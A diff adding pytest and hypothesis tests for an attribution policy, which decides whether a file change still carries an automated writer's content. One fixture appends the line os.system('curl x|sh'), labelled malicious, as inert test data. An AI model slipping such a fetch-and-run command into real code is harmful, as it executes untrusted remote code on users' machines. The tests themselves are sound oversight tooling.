@@ -1,0 +1,135 @@
+"""Attribution follows content: the rows of gentle_hooks.policy.attribution, one by one,
+and the properties the gates rely on (SPEC §3 "Attribution follows content")."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from gentle_hooks.policy.attribution import (
+    UNKNOWN_BEFORE,
+    PathChange,
+    WriterEntry,
+    carries,
+    carries_row,
+    line_key,
+    line_keys,
+    writer_delta,
+)
+
+B0 = b"def handler(event):\n    return validate(event)\n"
+W = b"def handler(event):\n    token = read_token(event)\n    return validate(event, token)\n"
+HUMAN = b"def handler(event):\n    log_event(event)\n    return validate(event)\n"
+PNG0, PNG1 = b"\x89PNG\0old", b"\x89PNG\0new"
+
+
+def entry(before: bytes | None, after: bytes | None, path: str = "app.py") -> WriterEntry:
+    return WriterEntry(
+        path,
+        blob=None if after is None else f"blob:{after!r}",
+        before=None if before is None else f"blob:{before!r}",
+        delta=writer_delta(before, after),
+    )
+
+
+def change(old: bytes | None, new: bytes | None, path: str = "app.py") -> PathChange:
+    blob = lambda c: None if c is None else f"blob:{c!r}"  # noqa: E731
+    return PathChange(path, blob(old), blob(new), old, new)
+
+
+ROWS = [
+    # (id, the change, the writer's entry, the row that decides)
+    ("A1 exactly the writer's blob", change(B0, W), entry(B0, W), "A1"),
+    ("A1 the writer deleted the file", change(B0, None), entry(B0, None), "A1"),
+    (
+        "A2 writer lines plus a malicious one",
+        change(B0, W + b"os.system('curl x|sh')\n"),
+        entry(B0, W),
+        "A2",
+    ),
+    (
+        "A2 a new file the writer created, edited",
+        change(None, W + b"# tidy\n"),
+        entry(None, W),
+        "A2",
+    ),
+    ("A2 reapplied on another base", change(HUMAN, HUMAN + W), entry(B0, W), "A2"),
+    (
+        "A3 a removal the writer made, re-applied",
+        change(W + b"extra_step(event)\n", b"def handler(event):\n# see the ticket\n"),
+        entry(W, b"def handler(event):\n"),
+        "A3",
+    ),
+    ("A4 binary from the writer's start", change(PNG0, b"\x89PNG\0other"), entry(PNG0, PNG1), "A4"),
+    (
+        "A4 unknown start: any change",
+        change(b"x\0", b"y\0"),
+        WriterEntry("app.py", None, UNKNOWN_BEFORE, writer_delta(b"\0", b"\0")),
+        "A4",
+    ),
+    ("A5 human edit after delivery", change(W, W + b"    audit_log(event)\n"), entry(B0, W), "A5"),
+    ("A5 human edit from the start (stash, another branch)", change(B0, HUMAN), entry(B0, W), "A5"),
+    ("A5 another path", change(B0, W, path="b.py"), entry(B0, W), "A5"),
+    ("A5 unchanged path", change(W, W), entry(B0, W), "A5"),
+    ("A5 binary from elsewhere", change(b"\0z", PNG1 + b"x"), entry(PNG0, PNG1), "A5"),
+    ("A5 revert of the writer's work", change(W, B0), entry(B0, W), "A5"),
+]
+
+
+@pytest.mark.parametrize(
+    ("change_", "entry_", "row"), [r[1:] for r in ROWS], ids=[r[0] for r in ROWS]
+)
+def test_rows(change_: PathChange, entry_: WriterEntry, row: str) -> None:
+    assert carries_row(change_, entry_) == row
+    assert carries(change_, entry_) is (row != "A5")
+
+
+def test_one_common_line_is_not_the_writer_s_work_two_are() -> None:
+    writer = entry(B0, B0 + b"import subprocess\nrun_all_jobs(queue)\n")
+    one = change(B0, B0 + b"import subprocess\n")
+    two = change(B0, b"run_all_jobs(queue)\nimport subprocess\n" + B0)
+    assert (carries(one, writer), carries(two, writer)) == (False, True)
+
+
+def test_a_one_line_writer_delta_needs_that_line() -> None:
+    writer = entry(B0, B0 + b"check_signature(payload)\n")
+    assert carries(change(B0, b"check_signature(payload)\n" + B0 + b"# more\n"), writer)
+
+
+@pytest.mark.parametrize(
+    "line", [b"", b"   ", b"}", b"  });", b"else:", b"end", b"# a", b"continue", b"i += 1"]
+)
+def test_insignificant_lines_have_no_key(line: bytes) -> None:
+    assert line_key(line) is None
+
+
+def test_keys_ignore_surrounding_whitespace() -> None:
+    assert line_key(b"    return x + 1  ") == line_key(b"return x + 1") is not None
+
+
+texts = st.lists(st.text(alphabet="abcdefgh xyz=();\n", max_size=30), max_size=8).map(
+    lambda ls: "\n".join(ls).encode()
+)
+
+
+@given(before=texts, after=texts, other=texts)
+def test_a_change_that_adds_no_writer_line_and_drops_none_never_carries(
+    before: bytes, after: bytes, other: bytes
+) -> None:
+    e = entry(before, after)
+    c = change(other, other + b"\n")  # adds only an empty line
+    assert not carries(c, e) or c.new_blob == e.blob
+
+
+@given(before=texts, after=texts, base=texts)
+def test_applying_the_writer_s_content_carries_it(before: bytes, after: bytes, base: bytes) -> None:
+    e = entry(before, after)
+    if before == after:
+        return
+    assert carries(change(base if base != after else base + b"\n#x", after), e)
+
+
+@given(data=texts)
+def test_line_keys_are_a_function_of_the_lines(data: bytes) -> None:
+    assert line_keys(data) == line_keys(b"\n".join(reversed(data.splitlines())))
